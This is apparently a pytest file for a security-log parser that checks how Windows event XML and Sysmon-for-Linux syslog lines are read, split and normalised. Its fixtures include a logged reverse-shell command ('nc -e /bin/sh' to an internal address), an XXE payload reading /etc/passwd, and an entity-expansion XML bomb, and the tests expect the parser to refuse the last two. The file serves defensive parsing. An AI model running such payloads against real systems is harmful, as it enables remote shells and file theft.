"""Windows events as XML: lines, exports, Sysmon for Linux in syslog, refused input."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heron.errors import ParseError
from heron.model.event import validate_event
from heron.normalize import normalize
from heron.parsers import detect_line_format, get_parser
from heron.parsers.base import ParseContext
from heron.parsers.syslog import SyslogParser
from heron.parsers.windows import WindowsEventParser, flatten_windows_record
from heron.parsers.winxml import (
    _NOT_XML,
    MAX_EVENT_CHARS,
    _direct,
    _record,
    iter_windows_xml_events,
    windows_xml_event,
)

CTX = ParseContext(received=1_795_773_600_000_000_000)  # 2026-11-27T10:00:00Z

LOGON = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Security-Auditing' "
    "Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>4625</EventID><Version>0</Version>"
    "<Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords>"
    "<TimeCreated SystemTime='2026-11-27T10:00:01.5Z'/><EventRecordID>912</EventRecordID>"
    "<Correlation/><Execution ProcessID='644' ThreadID='700'/><Channel>Security</Channel>"
    "<Computer>dc01.corp.example</Computer><Security/></System><EventData>"
    "<Data Name='TargetUserName'>alice</Data><Data Name='TargetDomainName'>CORP</Data>"
    "<Data Name='LogonType'>3</Data><Data Name='IpAddress'>203.0.113.9</Data>"
    "<Data Name='IpPort'>50122</Data><Data Name='SubStatus'>0xc000006a</Data>"
    "<Data Name='WorkstationName'></Data></EventData></Event>"
)

LINUX_SYSMON = (
    'Oct 19 10:22:33 ubuntu sysmon: <Event><System><Provider Name="Linux-Sysmon" '
    'Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>'
    "<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
    '<TimeCreated SystemTime="2026-10-19T10:22:33.123456000Z"/><EventRecordID>4242'
    '</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/>'
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>ubuntu</Computer>"
    '<Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data>'
    '<Data Name="ProcessId">9876</Data><Data Name="Image">/usr/bin/nc.openbsd</Data>'
    '<Data Name="CommandLine">nc -e /bin/sh 10.0.0.5 4444</Data>'
    '<Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data>'
    '<Data Name="ParentProcessId">9870</Data><Data Name="ParentImage">/bin/bash</Data>'
    '<Data Name="ParentCommandLine">bash</Data></EventData></Event>'
)


def test_an_event_line_reads_as_an_evtx_record_does() -> None:
    event = get_parser("windows_xml").parse(LOGON, CTX)
    assert event["EventID"] == 4625
    assert event["Channel"] == "Security"
    assert event["Provider_Name"] == "Microsoft-Windows-Security-Auditing"
    assert event["Computer"] == "dc01.corp.example"
    assert event["EventRecordID"] == 912
    assert event["Execution_ProcessID"] == 644
    assert event["@timestamp"] == 1_795_773_601_500_000_000
    assert event["TargetUserName"] == "alice"
    assert event["LogonType"] == "3"  # EventData stays text, as XML shippers send it
    assert event["WorkstationName"] == ""
    assert event["event.module"] == "windows"
    normalize(event)
    assert event["event.outcome"] == "failure"
    assert event["user.name"] == "alice"
    assert event["source.ip"] == "203.0.113.9"
    assert event["source.port"] == 50122


def test_rendered_xml_gives_the_message_event_viewer_shows() -> None:
    rendered = LOGON.replace(
        "</EventData>",
        "</EventData><RenderingInfo Culture='en-US'><Message>An account failed to log on."
        "\r\n\r\nSubject: ...</Message><Level>Information</Level><Task>Logon</Task>"
        "</RenderingInfo>",
    )
    event = normalize(get_parser("windows_xml").parse(rendered, CTX))
    assert event["message"] == "An account failed to log on.\n\nSubject: ..."
    # Without it, the catalog's summary as for EVTX records.
    plain = normalize(get_parser("windows_xml").parse(LOGON, CTX))
    assert (
        plain["message"] == "An account failed to log on by CORP\\alice from 203.0.113.9 (Network)"
    )


def test_unnamed_data_and_user_data() -> None:
    xml = (
        "<Event><System><EventID>400</EventID><Channel>Windows PowerShell</Channel>"
        "<TimeCreated SystemTime='2026-01-02T03:04:05Z'/></System><EventData>"
        "<Data>Available</Data><Data>None</Data><Data>NewEngineState=Available</Data>"
        "</EventData></Event>"
    )
    assert windows_xml_event(xml)["Data"] == ["Available", "None", "NewEngineState=Available"]
    xml = (
        "<Event><System><EventID>1102</EventID><Channel>Security</Channel></System>"
        "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/"
        "eventlog'><SubjectUserName>bob</SubjectUserName><SubjectDomainName>CORP"
        "</SubjectDomainName></LogFileCleared></UserData></Event>"
    )
    event = windows_xml_event(xml)
    assert (event["SubjectUserName"], event["SubjectDomainName"]) == ("bob", "CORP")


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        ("<Event><System><EventID>1", "invalid XML"),
        ("<Event><System><Computer>&big;</Computer></System></Event>", "invalid XML"),
        ("<Events><Event/></Events>", "not a Windows event"),
        (
            '<!DOCTYPE e [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            "<Event><System><Computer>&b;</Computer></System></Event>",
            "refused XML",
        ),
        (
            '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><Event>&x;</Event>',
            "refused XML",
        ),
    ],
)
def test_bad_xml_is_a_parse_error(xml: str, reason: str) -> None:
    with pytest.raises(ParseError, match=reason):
        get_parser("windows_xml").parse(xml, CTX)


def test_characters_xml_cannot_hold_are_read_as_replacement_characters() -> None:
    xml = "<Event><System><EventID>1</EventID></System><EventData>" + (
        "<Data Name='CommandLine'>a\x01b</Data></EventData></Event>"
    )
    assert windows_xml_event(xml)["CommandLine"] == "a\ufffdb"


def test_sysmon_for_linux_in_syslog() -> None:
    assert detect_line_format(LINUX_SYSMON) == "syslog"
    event = SyslogParser().parse(LINUX_SYSMON, CTX)
    assert event["Channel"] == "Linux-Sysmon/Operational"
    assert event["EventID"] == 1
    assert event["log.syslog.appname"] == "sysmon"
    assert event["event.module"] == "sysmon_linux"
    assert event["SecurityUserID"] == "0"  # Sysmon for Linux writes UserId="0"
    assert event["@timestamp"] == 1_792_405_353_123_456_000  # the event's, not the header's
    normalize(event)
    assert event["event.dataset"] == "sysmon_linux.log"
    assert event["process.executable"] == "/usr/bin/nc.openbsd"
    assert event["process.command_line"] == "nc -e /bin/sh 10.0.0.5 4444"
    assert event["process.pid"] == 9876
    assert event["process.parent.executable"] == "/bin/bash"
    assert event["host.name"] == "ubuntu"


def test_line_format_detection() -> None:
    assert detect_line_format(LOGON) == "windows_xml"
    assert detect_line_format("<?xml version='1.0'?>" + LOGON) == "windows_xml"
    assert detect_line_format("<13>1 2026-11-27T10:00:00Z host app - - - x") == "syslog"


def _pieces(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


@pytest.mark.parametrize("size", [1, 7, 1 << 20])
def test_documents_and_bare_elements_are_cut_into_events(size: int) -> None:
    export = f"<?xml version='1.0' encoding='utf-8'?>\n<Events>\n{LOGON}\n{LOGON}\n</Events>\n"
    events = list(iter_windows_xml_events(_pieces(export, size)))
    assert events == [LOGON, LOGON]
    bare = LOGON * 3  # wevtutil runs the elements together
    assert len(list(iter_windows_xml_events(_pieces(bare, size)))) == 3
    seen: list[str] = []
    with pytest.raises(ParseError, match="ends inside an event"):
        seen.extend(iter_windows_xml_events(_pieces(f"<Events>{LOGON}{LOGON[:200]}", size)))
    assert seen == [LOGON]  # the events before the break are given
    with pytest.raises(ParseError, match="refused XML"):
        list(iter_windows_xml_events(_pieces("<!DOCTYPE x []><Events>" + LOGON, size)))


def test_an_event_that_never_ends_is_refused_before_memory_runs_out() -> None:
    endless = ["<Events><Event>"] + ["x" * (1 << 20)] * (MAX_EVENT_CHARS // (1 << 20) + 2)
    with pytest.raises(ParseError, match="longer than"):
        list(iter_windows_xml_events(endless))


def _comparable(event: dict[str, Any]) -> dict[str, Any]:
    """Values as text: XML has no types; booleans as Windows writes them; line ends as XML
    reads them (CR LF and CR become LF); what XML cannot hold as U+FFFD."""
    illegal = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")

    def text(value: Any) -> str:
        if isinstance(value, bool):
            return "true" if value else "false"
        shown = illegal.sub("\ufffd", str(value))
        return shown.replace("\r\n", "\n").replace("\r", "\n")

    return {
        k: [text(v) for v in value] if isinstance(value, list) else text(value)
        for k, value in event.items()
    }


def test_every_attack_sample_reads_the_same_as_xml_and_as_evtx(corpora: Path) -> None:
    evtx = pytest.importorskip("evtx")
    files = sorted((corpora / "evtx" / "EVTX-ATTACK-SAMPLES").rglob("*.evtx"))
    if not files:
        pytest.skip("EVTX-ATTACK-SAMPLES not in the corpus")
    records, direct, differing = 0, 0, []
    json_parser = WindowsEventParser()
    for path in files:
        as_xml = [r["data"] for r in evtx.PyEvtxParser(str(path)).records()]
        as_json = [r["data"] for r in evtx.PyEvtxParser(str(path)).records_json()]
        for xml, js in zip(as_xml, as_json, strict=True):
            records += 1
            root = ET.fromstring(_NOT_XML.sub("\ufffd", xml.split("?>", 1)[1]))
            fast = _direct(root)
            if fast is not None:  # the short road gives exactly what the long one does
                direct += 1
                assert fast == flatten_windows_record(_record(root)), path.name
            ours, theirs = windows_xml_event(xml), json_parser.parse(js, CTX)
            if _comparable(ours) != _comparable(theirs):
                differing.append(f"{path.name}: {set(ours.items()) ^ set(theirs.items())}")
    assert records == 8255
    assert direct >= 7500  # the common shape takes the short road (7,716 of them)
    # A value that is a lone CR reads as LF in XML, then as the indentation of an empty
    # element (""): two records of one file have one.
    assert len(differing) <= 2, differing[:5]


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["windows_xml", "syslog"]),
    st.integers(0, 2000),
    st.integers(0, 2000),
    st.text(max_size=12),
)
def test_mutated_xml_gives_an_event_or_a_parse_error(
    fmt: str, at: int, cut: int, text: str
) -> None:
    seed = LOGON if fmt == "windows_xml" else LINUX_SYSMON
    raw = (seed[:at] + text + seed[at:])[: cut or None]
    try:
        event = get_parser(fmt).parse(raw, CTX)
    except ParseError:
        return
    normalize(event)
    validate_event(event)
